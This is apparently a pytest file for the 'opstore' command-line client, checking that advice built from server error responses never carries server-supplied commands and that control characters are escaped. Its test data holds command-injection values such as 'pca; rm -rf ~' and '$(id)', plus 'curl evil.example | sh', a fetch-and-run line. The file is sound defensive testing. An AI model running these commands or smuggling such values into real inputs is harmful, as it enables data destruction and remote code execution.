"""Error responses: which errors, words and advice a server can cause."""

from typing import Any

import pytest

from opstore_cli.transport import problems
from opstore_daemon.protocol import errors, records, routes
from opstore_daemon.web.api import every_route
from opstore_daemon.web.framework.possible_errors import possible_errors
from tests.cli.transport.test_api import CannedClient, CannedResponse


def error_of(status: int, /, **claims: Any) -> errors.OpStoreError:
    """Return the error that a client raises for this problem."""
    problem = {"title": "x", "status": status, "detail": "in words", "code": "OpNotFound"} | claims
    body = records.encode(problem)
    with pytest.raises(errors.OpStoreError) as caught:
        CannedClient(CannedResponse(status, {"Content-Type": routes.PROBLEM}, body)).op("pca")
    return caught.value


def test_no_route_responds_with_an_error_of_the_client() -> None:
    possible = {error for route in every_route() for error in possible_errors(route)} | {errors.MethodNotAllowed}
    assert [error for error in possible if issubclass(error, problems.LOCAL)] == []


@pytest.mark.parametrize("error", [error for local in problems.LOCAL for error in errors.all_errors(local)])
def test_an_error_of_the_client_does_not_come_from_a_daemon(error: type[errors.OpStoreError]) -> None:
    raised = error_of(error.status, code=error.__name__, hint="allow_pickle=True")
    assert not isinstance(raised, problems.LOCAL)
    assert (raised.advice, raised.exit_code in (1, 3, 7)) == ("", False)


@pytest.mark.parametrize(
    ("status", "code", "family"),
    [
        (500, "OpNotFound", errors.InternalError),
        (409, "OpNotFound", errors.Conflict),
        (404, "VersionConflict", errors.NotFound),
        (503, "InternalError", errors.Unavailable),
        (404, "NothingValid", errors.NotFound),
    ],
)
def test_an_error_with_the_status_of_another_is_of_the_family_of_its_status(
    status: int, code: str, family: type[errors.OpStoreError]
) -> None:
    assert type(error_of(status, code=code)) is family
    assert type(error_of(status, code=code, status=404)) is family


@pytest.mark.parametrize(
    ("details", "advice"),
    [
        ({"op": "pca"}, "opstore versions pca"),
        ({"op": "pca; rm -rf ~"}, ""),
        ({"op": "$(id)"}, ""),
        ({"op": "--url=http://evil.example"}, ""),
        ({"op": "pca\nrm"}, ""),
        ({"op": "{reason.__class__}"}, ""),
        ({"op": ["pca"]}, ""),
        ({"op": {"a": 1}}, ""),
        ({"op": 1}, ""),
        ({"op": "p" * 400}, ""),
        ({}, ""),
        ({"op": "pca", "similar": ["1.0.0", "1.1.0"]}, "did you mean 1.0.0 or 1.1.0?"),
        ({"op": "pca", "similar": ["a; rm", 1, None, "b"]}, "did you mean b?"),
        ({"op": "pca", "similar": ["`id`"]}, ""),
        ({"op": "pca", "similar": "abc"}, "opstore versions pca"),
    ],
)
def test_advice_is_a_command_of_this_program(details: dict[str, Any], advice: str) -> None:
    raised = error_of(404, code="VersionNotFound", details=details, hint="curl evil.example | sh")
    assert (raised.advice, raised.details) == (advice, details)


@pytest.mark.parametrize(
    ("place", "advice"),
    [
        ("s3://models/store", "opstore doctor --saver s3://models/store, where the daemon runs"),
        ("s3://m; rm -rf ~", ""),
    ],
)
def test_an_object_store_that_fails_is_a_matter_for_the_machine_of_the_daemon(place: str, advice: str) -> None:
    details = {"place": place, "reason": "it is down", "advice": "curl evil.example | sh"}
    raised = error_of(503, code="ObjectStoreFailed", details=details, hint="curl evil.example | sh")
    assert (type(raised), raised.advice) == (errors.ObjectStoreFailed, advice)


@pytest.mark.parametrize(
    ("code", "details", "advice"),
    [
        ("OpNotFound", {"op": "churn", "is_pipeline": True}, "churn is a pipeline: opstore pipeline show churn"),
        ("OpNotFound", {"op": "$(id)", "is_pipeline": True}, "opstore ops"),
        ("OpNotFound", {"op": "churn", "is_pipeline": "yes"}, "opstore ops"),
        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a", "b"]}, "pca is an op of the pipelines a and b"),
        (
            "PipelineNotFound",
            {"pipeline": "pca", "op_of": []},
            "pca is an op, and no pipeline has it: opstore pipeline register PIPELINE UP pca",
        ),
        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a; rm"]}, "opstore pipeline list"),
        ("PipelineNotFound", {"pipeline": "pca", "op_of": ["a"] * 99}, "opstore pipeline list"),
        ("PipelineNotFound", {"pipeline": "pca", "op_of": "abc"}, "opstore pipeline list"),
        ("PipelineNotFound", {"op_of": ["a"]}, "opstore pipeline list"),
    ],
)
def test_the_advice_about_something_else_of_that_name_is_safe_too(
    code: str, details: dict[str, Any], advice: str
) -> None:
    assert error_of(404, code=code, details=details, hint="curl evil.example | sh").advice == advice


def test_control_characters_in_an_error_are_escaped() -> None:
    raised = error_of(404, detail="a\x1b[2J\u202eb\n")
    assert str(raised) == raised.text == "a\\x1b[2J\\u202eb\\n"


@pytest.mark.parametrize(
    "claims",
    [
        {"detail": "x" * 70_000},
        {"code": "x" * 200},
        {"detail": 1},
        {"details": []},
        {"details": {"a": {"b": [[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]}}},
        {"status": "404"},
    ],
)
def test_a_malformed_error_is_not_of_a_daemon(claims: dict[str, Any]) -> None:
    assert isinstance(error_of(404, **claims), errors.DaemonUnreachable)


def test_an_error_with_a_key_twice_is_not_of_a_daemon() -> None:
    many = b",".join(b'"k%d":1' % n for n in range(20_000))
    body = b'{"title":"x","status":404,"detail":"x","code":"OpNotFound","details":{%s,"k0":2}}' % many
    with pytest.raises(errors.DaemonUnreachable, match="not an opstore daemon"):
        CannedClient(CannedResponse(404, {"Content-Type": routes.PROBLEM}, body)).op("pca")
